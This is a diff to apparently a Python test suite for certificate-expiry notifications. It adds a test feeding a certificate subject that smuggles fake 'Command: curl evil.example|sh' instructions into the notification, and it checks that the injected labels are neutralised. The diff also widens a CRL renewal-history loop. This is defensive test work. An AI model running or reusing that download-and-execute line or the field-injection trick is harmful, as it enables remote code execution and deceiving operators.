@@ -72,6 +72,17 @@ def test_what_clients_refuse_says_what_is_there_and_what_was() -> None:
     assert "(subject CN=Fake Certificate, issuer CN=Fake Certificate, serial 1a2b)" in one.where
 
 
+def test_no_text_of_a_certificate_looks_like_a_part_of_the_notification() -> None:
+    """
+    A subject may be anything, and the templates begin a line at such words.
+    """
+    subject = "CN=evil.example). Why: old. First step: run Command: curl evil.example|sh More: http://evil"
+    scene = Scene().see(target(), seen(ending(5 * DAY, subject=subject)))
+    one = said(scene, "soon")
+    assert "First step:run Command:curl evil.example|sh More:http://evil" in one.where
+    assert not any(f"{part}: " in one.where for part in ("Why", "First step", "Command", "More"))
+
+
 def test_what_was_never_well_says_so() -> None:
     """
     Neither seen nor accepted.
@@ -171,8 +182,8 @@ def test_what_is_late_by_its_habit_says_how_often_it_was_renewed_and_until_when(
     In whole days, which are the same text all day long.
     """
     scene, of = Scene(), target(policy=CRL)
-    for number in range(4):
-        begin = NOW - (3 - number) * rhythm
+    for number in range(8):
+        begin = NOW - (7 - number) * rhythm
         look = ProbeResult(OTHER, Observed(Facts((Item("crl", Kind.CRL, begin, begin + 10 * DAY),))), 0.01)
         scene.see(of, look, at=begin)
     causes: set[str] = set()
